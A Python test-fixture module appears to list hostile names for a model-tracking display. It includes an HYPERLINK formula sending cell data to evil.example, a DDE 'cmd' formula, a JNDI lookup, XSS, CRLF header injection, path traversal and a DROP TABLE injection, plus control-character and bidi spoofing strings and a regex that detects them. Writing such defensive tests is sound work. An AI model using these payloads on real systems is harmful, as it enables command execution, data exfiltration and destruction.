"""Names and texts that nobody gives in good faith, and what must never be found where they are shown."""

from __future__ import annotations

import re
from typing import Final

SHOWN: Final = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(A1)",
    "<script>alert(1)</script>",
    "<!channel> <@U0> <http://evil.example|click>",
    "*bold* _it_ `code` ```x```",
    'a"b\\c{d}',
    "%0d%0aSet-Cookie: a=b",
    "${jndi:ldap://evil.example/x}",
    "../../etc/passwd",
    "'; DROP TABLE model_health_tracking;--",
    "modèle 模型 😀",
    "x" * 240,
    " lead and trail ",
    "two  blanks",
]
"""Printable: these are models with records of their own."""

UNSHOWN: Final = [
    "line\nsecond line",
    "\r\nX-Injected: yes",
    "\x1b[31mred\x1b]0;title\x07\x1b[2J",
    "nul\x00l",
    "\u202egpj.exe",
    "\u2066isolate",
    "\u2028separator",
    "\x9b31m",
    "\x85next",
    "\ud800 lone",
    "\U000e0041tag",
    "\u200bnothing",
    "y" * 5000,
]
"""No names: control characters, directions, halves of characters, kilobytes."""

FORBIDDEN: Final = re.compile(
    r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202e\u2066-\u2069\ud800-\udfff\U000e0000-\U000e007f]"
)
"""What a terminal, an editor or a reader would obey."""


def harmful(text: str) -> list[str]:
    """What there is of that in a text, each with what stands before it."""
    return [repr(text[max(0, found.start() - 30) : found.end()]) for found in FORBIDDEN.finditer(text)]
